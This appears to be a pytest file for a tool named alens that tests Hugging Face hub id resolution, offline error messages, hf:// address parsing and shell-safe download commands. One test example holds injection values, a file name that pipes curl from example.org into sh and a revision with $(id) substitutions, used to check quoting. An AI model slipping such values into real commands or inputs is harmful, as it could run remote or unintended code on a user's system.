"""Hub ids up to the network: a hub cache laid out on disk, a hub out of reach, nothing at all.

huggingface_hub reads its environment when it is imported, so each case is a process of its own.
"""

import json
import shlex
import shutil
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from alens import demo
from alens.errors import RequestError
from alens.sources import hub

MODEL_COMMIT, OTHER_COMMIT, CORPUS_COMMIT = "a" * 40, "b" * 40, "c" * 40
SETTINGS = ["--seq-len", "32", "--rows-per-shard", "128", "--max-rows", "128", "--top-k", "4", "--tail-samples", "4", "--layers", "0"]  # fmt: skip


def add_repository(hub_cache: Path, name: str, ref: str, commit: str, files: Mapping[str, Path]) -> None:
    """A repository as huggingface_hub stores it: blobs by hash, and links to them from snapshots."""
    root = hub_cache / name
    (root / "refs" / ref).parent.mkdir(parents=True, exist_ok=True)
    (root / "refs" / ref).write_text(commit)
    (root / "blobs").mkdir(exist_ok=True)
    for number, (path, source) in enumerate(files.items()):
        blob = root / "blobs" / f"{commit[0]}{number:063d}"
        shutil.copy(source, blob)
        link = root / "snapshots" / commit / path
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(blob)


@pytest.fixture(scope="module")
def hub_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An HF_HOME that holds a `gpt2` (the demo) and the converted branch of BookCorpus."""
    home = tmp_path_factory.mktemp("hub")
    model_files = {path.name: path for path in demo.MODEL.iterdir()}
    add_repository(home / "hub", "models--gpt2", "main", MODEL_COMMIT, model_files)
    add_repository(home / "hub", "models--gpt2", "older", OTHER_COMMIT, model_files)
    table = pq.read_table(demo.CORPUS).select(["text"])
    for number, part in enumerate((table.slice(0, 200), table.slice(200))):
        pq.write_table(part, home / f"{number}.parquet")
    add_repository(
        home / "hub",
        "datasets--bookcorpus--bookcorpus",
        "refs/convert/parquet",
        CORPUS_COMMIT,
        {f"plain_text/train/{number:04d}.parquet": home / f"{number}.parquet" for number in (0, 1)},
    )
    return home


@pytest.fixture(scope="module")
def plans(hub_home: Path, tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, Any]]:
    """The plans of `alens cache gpt2 bookcorpus`, at two revisions of the model, in one process."""
    stores = [tmp_path_factory.mktemp("stores") / name for name in ("main", "older")]
    runs = [
        ["cache", "gpt2", "bookcorpus", str(stores[0]), *SETTINGS],
        ["cache", "gpt2", "bookcorpus", str(stores[1]), *SETTINGS, "--revision", "older"],
    ]
    code = (
        "import json, sys; from alens.cli import run; sys.exit(max(run(a) for a in json.loads(sys.argv[1])))"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, json.dumps(runs)],
        env={**environment(), "HF_HOME": str(hub_home), "HF_HUB_OFFLINE": "1"},
        capture_output=True,
        text=True,
        timeout=400,
    )
    assert done.returncode == 0, done.stderr
    return [json.loads((store / "plan.json").read_text()) for store in stores]


def environment() -> dict[str, str]:
    """This process's environment, without variables that name another hub or hub cache."""
    import os

    return {name: value for name, value in os.environ.items() if not name.startswith(("HF_", "HUGGINGFACE_"))}


def test_a_model_id_resolves_to_the_commit_of_its_default_branch(plans: list[dict[str, Any]]) -> None:
    assert (plans[0]["model"]["id"], plans[0]["model"]["revision"]) == ("gpt2", MODEL_COMMIT)


def test_another_revision_resolves_to_its_own_commit(plans: list[dict[str, Any]]) -> None:
    assert plans[1]["model"]["revision"] == OTHER_COMMIT


def test_bookcorpus_resolves_to_the_converted_branch(plans: list[dict[str, Any]]) -> None:
    corpus = plans[0]["corpus"]
    assert (corpus["id"], corpus["revision"]) == ("bookcorpus", CORPUS_COMMIT)
    assert [file["name"] for file in corpus["files"]] == ["0000.parquet", "0001.parquet"]


def test_a_model_from_the_hub_is_the_same_model(plans: list[dict[str, Any]], demo_cache: Path) -> None:
    local = json.loads((demo_cache / "plan.json").read_text())
    assert plans[0]["model"]["weights_sha256"] == local["model"]["weights_sha256"]
    assert plans[0]["tokens"]["tokenizer_sha256"] == local["tokens"]["tokenizer_sha256"]
    assert plans[0]["identity"] == plans[1]["identity"]


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (("gpt2", "demo"), "run `hf download gpt2` where there is network"),
        (("demo", "bookcorpus"), "run `hf download bookcorpus/bookcorpus --repo-type dataset --revision refs/convert/parquet`"),
    ],
)  # fmt: skip
@pytest.mark.parametrize(
    ("reach", "why"),
    [
        ({"HF_HUB_OFFLINE": "1"}, "and HF_HUB_OFFLINE is set"),
        (
            {"HF_HUB_OFFLINE": "0", "HF_ENDPOINT": "http://127.0.0.1:9", "NO_PROXY": "*", "no_proxy": "*"},
            "and the hub is out of reach",
        ),
    ],
)
def test_without_a_copy_and_a_hub_it_is_one_line(
    tmp_path: Path,
    run_alens_process: Any,
    arguments: tuple[str, str],
    says: str,
    reach: dict[str, str],
    why: str,
) -> None:
    code, out, err = run_alens_process(
        "cache", *arguments, tmp_path / "store", env={"HF_HOME": str(tmp_path / "home"), **reach}
    )
    assert (code, out) == (2, "")
    *progress, err = err.splitlines()
    assert err.startswith("alens: ") and not [line for line in progress if line.startswith("alens: ")]
    assert f"the hub cache {tmp_path}/home/hub has no copy, {why}" in err
    assert says in err
    assert not (tmp_path / "store").exists()


@pytest.mark.parametrize("text", ["gpt2", "openai-community/gpt2", "EleutherAI/pythia-70m", "a_b/c.d-e"])
def test_ids(text: str) -> None:
    assert hub.looks_like_id(text)


@pytest.mark.parametrize(
    "text", ["", "/gpt2", "./gpt2", "../gpt2", "a/b/c", "gpt2/", "a b", "~/model", "a\n"]
)
def test_paths_are_not_ids(text: str) -> None:
    assert not hub.looks_like_id(text)


@pytest.mark.parametrize("text", ["hf://me/lenses", "hf://me/lenses@main", "hf://me/lenses@refs/pr/1"])
def test_an_address_is_one_as_a_path_too(text: str) -> None:
    for form in (text, Path(text)):
        assert str(hub.address(form)) == text


@pytest.mark.parametrize("path", ["lenses", "/hf/lenses", "./hf:/a/b", "hf", "https://example.org/me/lenses"])
def test_paths_are_not_addresses(path: str) -> None:
    assert hub.address(path) is None


@pytest.mark.parametrize(
    "text", ["hf://", "hf://lenses", "hf://me/lenses/more", "hf://me/..", "hf://me/a b", "hf:///"]
)
def test_a_wrong_address_is_refused(text: str) -> None:
    with pytest.raises(
        RequestError, match=r"is not the name of a repository: give OWNER/NAME.*, behind hf://$"
    ):
        hub.address(text)


@pytest.mark.parametrize(
    ("text", "write"),
    [
        ("https://huggingface.co/me/lenses", "hf://me/lenses"),
        ("http://www.hf.co/me/lenses/tree/main", "hf://me/lenses"),
        ("HF://me/lenses", "hf://me/lenses"),
        ("https://huggingface.co", "hf://OWNER/NAME"),
        ("https://huggingface.co/gpt2", "hf://OWNER/NAME"),
    ],
)
def test_what_is_nearly_an_address_is_told_how_to_write_it(text: str, write: str) -> None:
    for form in (text, Path(text)):
        with pytest.raises(RequestError, match=f"is not an address: write {write}$"):
            hub.address(form)


def test_a_bare_address_is_refused_as_a_path_too() -> None:
    with pytest.raises(RequestError, match=r"is not an address: write hf://OWNER/NAME$"):
        hub.address(Path("hf://"))


@pytest.mark.parametrize(
    "text", ["hf://me/lenses@", "hf://me/lenses@a b", "hf://me/lenses@../x", "hf://me/lenses@/x"]
)
def test_a_wrong_revision_is_refused(text: str) -> None:
    with pytest.raises(RequestError, match=r"is not a revision: give hf://me/lenses@REVISION"):
        hub.address(text)


@given(st.lists(st.text(min_size=1), min_size=3, max_size=3))
@example(["me/gpt2", "lens.json; curl example.org | sh", "$(id)`id`'"])
def test_a_command_to_type_has_each_name_as_one_word(names: list[str]) -> None:
    """The shell splits the command into these words, whatever the names are."""
    repository, file, revision = names
    typed = hub.download_command(repository, file, kind="dataset", revision=revision)
    assert shlex.split(typed) == [
        "hf",
        "download",
        repository,
        file,
        "--repo-type",
        "dataset",
        "--revision",
        revision,
    ]


def test_a_command_of_usual_names_is_not_quoted() -> None:
    assert hub.download_command("me/gpt2", "lens.json", revision="refs/pr/1", more=("--force-download",)) == (
        "hf download me/gpt2 lens.json --revision refs/pr/1 --force-download"
    )
